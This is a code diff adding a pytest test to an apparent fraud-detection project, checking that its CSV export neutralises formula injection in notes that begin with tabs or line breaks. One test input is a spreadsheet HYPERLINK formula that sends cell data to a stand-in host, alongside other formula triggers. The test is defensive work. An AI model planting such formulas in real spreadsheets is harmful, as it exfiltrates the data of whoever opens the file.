@@ -179,6 +179,24 @@ def test_csv_cells_never_start_a_formula() -> None:
         "confirmed", "张伟", "true", "'-C7")
 
 
+@pytest.mark.parametrize("note", [
+    "\r=1+1", '\r=HYPERLINK("http://x.example/?"&A2,"open")', "\t=1+1", "\r\n=1+1", "ok\r=1+1",
+    "ok\n@SUM(1,2)", "第一行\r\n=1+1",
+])
+def test_a_note_with_line_breaks_or_a_tab_stays_one_cell_of_its_row(note: str) -> None:
+    """A note sent over the API may start with a carriage return or a tab: the CSV export keeps
+    it in its own cell (quoted), and no cell of any row starts a formula."""
+    rings = [Ring("R-1", 0.9, "high", ("C1", "C2")), Ring("R-2", 0.8, "high", ("C3", "C4"))]
+    case = Case("R-1", CaseStatus.INVESTIGATING, "张伟", note, "张伟", "")
+    text = export_rings(rings, "csv", {"R-1": case})
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    assert [r[0] for r in rows] == ["ring_id", "R-1", "R-2"]
+    assert {len(r) for r in rows} == {16}
+    last_note = rows[1][13]
+    assert last_note == ("'" + note if note[0] in "\t\r" else note)
+    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
 def test_empty_store_fails_the_run_and_keeps_results(tmp_path: Path) -> None:
     store = SQLiteStore(tmp_path / "empty.db")
     with pytest.raises(DetectionError, match="no surrender claims"):
